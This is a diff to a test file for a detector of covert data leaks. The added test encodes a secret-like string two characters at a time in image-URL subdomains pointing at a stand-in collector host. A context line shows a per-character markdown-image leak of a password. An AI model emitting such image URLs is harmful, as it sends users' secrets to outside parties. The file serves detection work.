@@ -48,6 +48,9 @@ test('decoders: one URL per character, behind a proxy that hides the URL in hex,
   // single characters in the path, no proxy: joined as written
   const plain = [...'hunter2-is-the-password'].map((c) => `![](https://img.invalid/x/${encodeURIComponent(c)}.png)`).join(' ');
   assert.ok(views(plain).some((v) => v.text.includes('hunter2-is-the-password')));
+  // the symbol in a subdomain, two characters per URL
+  const sub = ['k7', 'Qz', '9w', 'Lm', 'P2', 'xR', '4t', 'Vb'].map((p) => `<img src="https://${p}.px.collector.invalid/a.gif">`).join('');
+  assert.ok(views(sub).some((v) => v.text.includes('k7Qz9wLmP2xR4tVb')));
 });
 
 test('decoders: links of one template with long or repeated parts are not a character channel', () => {
